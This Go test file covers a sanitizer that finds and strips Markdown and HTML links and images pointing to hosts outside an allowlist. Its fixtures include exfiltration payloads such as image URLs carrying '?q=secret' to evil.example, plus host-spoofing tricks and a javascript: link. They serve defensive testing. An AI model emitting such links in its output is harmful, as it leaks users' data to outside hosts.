package sanitize

import (
	"math/rand/v2"
	"strings"
	"testing"
)

func TestFindLinks(t *testing.T) {
	for _, tc := range []struct {
		name, text string
		want       []Link // Start, End, Image, Host, Relative, Definition checked
	}{
		{"inline", "see [docs](https://Docs.Example.com:443/a) now",
			[]Link{{Start: 4, End: 42, TextStart: 5, TextEnd: 9, URL: "https://Docs.Example.com:443/a", Host: "docs.example.com"}}},
		{"image with title", `![x](https://evil.example/?q=secret "t")`,
			[]Link{{Start: 0, End: 40, TextStart: 2, TextEnd: 3, Image: true, URL: "https://evil.example/?q=secret", Host: "evil.example"}}},
		{"angle destination", "[a](<https://b.example/x y>)",
			[]Link{{Start: 0, End: 28, TextStart: 1, TextEnd: 2, URL: "https://b.example/x y", Host: "b.example"}}},
		{"reference definition", "text\n  [r]: https://evil.example/x\n![y][r]",
			[]Link{{Start: 5, End: 35, TextStart: 5, TextEnd: 5, Definition: true, URL: "https://evil.example/x", Host: "evil.example"}}},
		{"autolink", "<https://evil.example/a>",
			[]Link{{Start: 0, End: 24, TextStart: 1, TextEnd: 23, URL: "https://evil.example/a", Host: "evil.example"}}},
		{"img tag", `<IMG alt="x" SRC='//evil.example/p.png'>`,
			[]Link{{Start: 0, End: 40, TextStart: 0, TextEnd: 0, Image: true, URL: "//evil.example/p.png", Host: "evil.example"}}},
		{"relative", "funcs[i](x)",
			[]Link{{Start: 5, End: 11, TextStart: 6, TextEnd: 7, URL: "x", Relative: true}}},
		{"userinfo", "[a](https://docs.example.com@evil.example/)",
			[]Link{{Start: 0, End: 43, TextStart: 1, TextEnd: 2, URL: "https://docs.example.com@evil.example/"}}},
		{"backslashes", `![a](https:\\evil.example\x)`,
			[]Link{{Start: 0, End: 28, TextStart: 2, TextEnd: 3, Image: true, URL: `https:\\evil.example\x`, Host: "evil.example"}}},
		{"idna", "[a](https://BÜCHER.example/)",
			[]Link{{Start: 0, End: 29, TextStart: 1, TextEnd: 2, URL: "https://BÜCHER.example/", Host: "xn--bcher-kva.example"}}},
		{"escaped bracket", `![a\]b](https://evil.example/)`,
			[]Link{{Start: 0, End: 30, TextStart: 2, TextEnd: 6, Image: true, URL: "https://evil.example/", Host: "evil.example"}}},
		{"no link", "plain [text] and (parens) and a < b > c", nil},
		{"blank line", "[a\n\nb](https://x.example/)", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := FindLinks(tc.text)
			if len(got) != len(tc.want) {
				t.Fatalf("FindLinks(%q) = %+v, want %+v", tc.text, got, tc.want)
			}
			for i := range got {
				if got[i] != tc.want[i] {
					t.Errorf("link %d = %+v, want %+v", i, got[i], tc.want[i])
				}
			}
		})
	}
}

func TestRemoveLinks(t *testing.T) {
	allow := HostAllowlist("docs.example.com", "*.cdn.example.com")
	for _, tc := range []struct {
		name, text, want string
		types            []string
	}{
		{"exfil image", "Here: ![x](https://evil.example/?q=secret) done", "Here:  done", []string{TypeExfilImage}},
		{"allowed image", "![chart](https://docs.example.com/c.png)", "![chart](https://docs.example.com/c.png)", nil},
		{"wildcard image", "![c](https://a.cdn.example.com/c.png)", "![c](https://a.cdn.example.com/c.png)", nil},
		{"wildcard apex", "![c](https://cdn.example.com/c.png)", "", []string{TypeExfilImage}},
		{"link text kept", "Read [the guide](https://evil.example/g?d=1).", "Read the guide.", []string{TypeExfilLink}},
		{"allowed link", "Read [the guide](https://docs.example.com/g).", "Read [the guide](https://docs.example.com/g).", nil},
		{"relative link kept", "see [a](docs/a.md)", "see [a](docs/a.md)", nil},
		{"relative image removed", "![a](/track?q=1)", "", []string{TypeExfilImage}},
		{"suffix trick", "![a](https://docs.example.com.evil.example/a)", "", []string{TypeExfilImage}},
		{"image in allowed link", "[![i](https://evil.example/i)](https://docs.example.com)", "[](https://docs.example.com)", []string{TypeExfilImage}},
		{"definition", "x\n[r]: https://evil.example/p.png\n![y][r]", "x\n![y][r]", []string{TypeExfilLink}},
		{"autolink", "<https://evil.example/a?s=1>", "https://evil.example/a?s=1", []string{TypeExfilLink}},
		{"img tag", `a<img src="https://evil.example/p.png">b`, "ab", []string{TypeExfilImage}},
		{"srcset", `<img src="https://docs.example.com/a.png" srcset="https://evil.example/b.png 2x">`, "", []string{TypeExfilImage}},
		{"javascript link", "[click](javascript:alert(1))", "click", []string{TypeExfilLink}},
		{"code span hides brackets", "![a`]`](https://evil.example/)", "", []string{TypeExfilImage}},
		{"backtick in destination", "[a](https://evil.example/`) ![i](https://evil.example/x) `", "a  `", []string{TypeExfilLink, TypeExfilImage}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, fs := RemoveLinks(tc.text, allow)
			if got != tc.want {
				t.Errorf("RemoveLinks(%q) = %q, want %q", tc.text, got, tc.want)
			}
			var types []string
			for _, f := range fs {
				if f.Kind != KindLeak || f.Start < 0 || f.End > len(tc.text) {
					t.Errorf("bad finding %+v", f)
				}
				types = append(types, f.Type)
			}
			if strings.Join(types, ",") != strings.Join(tc.types, ",") {
				t.Errorf("finding types %v, want %v", types, tc.types)
			}
		})
	}
	if got, _ := RemoveLinks("![a](https://docs.example.com/a)", nil); got != "" {
		t.Errorf("nil allowHost kept %q", got)
	}
}

func TestHostAllowlist(t *testing.T) {
	allow, err := ParseHostAllowlist("Docs.Example.COM.", "*.cdn.example.com", "bücher.example", "10.0.0.1", "[::1]")
	if err != nil {
		t.Fatal(err)
	}
	for host, want := range map[string]bool{
		"docs.example.com": true, "DOCS.example.com.": true, "x.docs.example.com": false,
		"a.cdn.example.com": true, "a.b.cdn.example.com": true, "cdn.example.com": false, "evilcdn.example.com": false,
		"xn--bcher-kva.example": true, "BÜCHER.example": true, "10.0.0.1": true, "::1": true, "10.0.0.2": false,
		"": false, "docs.example.com.evil.example": false,
	} {
		if got := allow(host); got != want {
			t.Errorf("allow(%q) = %v, want %v", host, got, want)
		}
	}
	for _, bad := range []string{"", "*", "*.com", "https://docs.example.com", "a/b", "*.10.0.0.1", "user@host.example"} {
		if _, err := ParseHostAllowlist(bad); err == nil {
			t.Errorf("ParseHostAllowlist(%q) accepted", bad)
		}
	}
	if HostAllowlist("*")("anything.example") {
		t.Error(`"*" allowed a host`)
	}
}

func TestPendingLink(t *testing.T) {
	text := "Intro. ![chart](https://docs.example.com/c.png \"t\") then [a](https://x.example/y) end.\n[r]: https://z.example/ \nbye <img src=\"https://q.example/a\"> <https://w.example/> !"
	links := FindLinks(text)
	if len(links) != 5 {
		t.Fatalf("want 5 links, got %+v", links)
	}
	for n := 0; n <= len(text); n++ {
		prefix := text[:n]
		p := PendingLink(prefix)
		for _, l := range links {
			if l.Start < n && n < l.End && !(l.Definition && n > l.Start+len("[r]: https://z.example/")) {
				if p < 0 || p > l.Start {
					t.Fatalf("PendingLink(%q) = %d, want <= %d", prefix, p, l.Start)
				}
			}
		}
	}
	for text, want := range map[string]int{
		"no links here": -1, "done [a](b) ok": -1, "ab !": 3, "ab [t]": 3, "ab <im": 3, "ab ![x](https://do": 3,
		"[x]: https://a": 0, "a [b\n\nc": -1, "x `![a](h": 3,
	} {
		if got := PendingLink(text); got != want {
			t.Errorf("PendingLink(%q) = %d, want %d", text, got, want)
		}
	}
}

func BenchmarkRemoveLinks(b *testing.B) {
	allow := HostAllowlist("docs.example.com")
	text := strings.Repeat("Some prose with a [link](https://docs.example.com/a) and `code[i](x)`. ", 50) +
		"![x](https://evil.example/?q=secret)"
	b.ReportAllocs()
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		RemoveLinks(text, allow)
	}
}

// TestImgTagMemo checks that imgTag's memory of the positions from which
// a parse finds no end of the tag changes no answer: one scanner asked
// about every '<' of a text in turn answers as a fresh scanner asked
// about that '<' alone, on texts of tags without ends, quotes that do not
// close, and tags that do end, out of step with each other.
func TestImgTagMemo(t *testing.T) {
	rng := rand.New(rand.NewPCG(5, 6))
	pieces := []string{"<img ", "<img", "<IMG/", "src=", "src=\"https://evil.test/?q=1\"", "alt='", "'", `"`, ">", " ", "/", "=", "x", "srcset=a", "\n",
		"a", "b=", "=c", "<img/", "<imga", "'>'", `">"`}
	fails := 0
	for n := range 2000 {
		var b strings.Builder
		for b.Len() < 1+n%300 {
			b.WriteString(pieces[rng.IntN(len(pieces))])
		}
		fails += checkImgTagMemo(t, b.String())
	}
	if fails == 0 {
		t.Fatal("no tag without an end")
	}
}

func FuzzImgTagMemo(f *testing.F) {
	for _, s := range []string{"<img <img <img ", `<img a="<img b>`, `<img a='x' <img b="y>" >`, "<img/<img/>"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) { checkImgTagMemo(t, text) })
}

// checkImgTagMemo asks one scanner about every '<' of text in turn and a
// fresh scanner about each alone, and returns how many tags had no end.
func checkImgTagMemo(t *testing.T, text string) int {
	t.Helper()
	fails := 0
	s := linkScanner{text: text, pending: -1}
	for i := 0; i < len(text); i++ {
		if text[i] != '<' {
			continue
		}
		got, gst := s.angle(i)
		fresh := linkScanner{text: text, pending: -1}
		want, wst := fresh.angle(i)
		if got != want || gst != wst {
			t.Fatalf("%q, '<' at %d: %+v %v, alone %+v %v", text, i, got, gst, want, wst)
		}
		if gst == linkIncomplete {
			fails++
		}
	}
	return fails
}
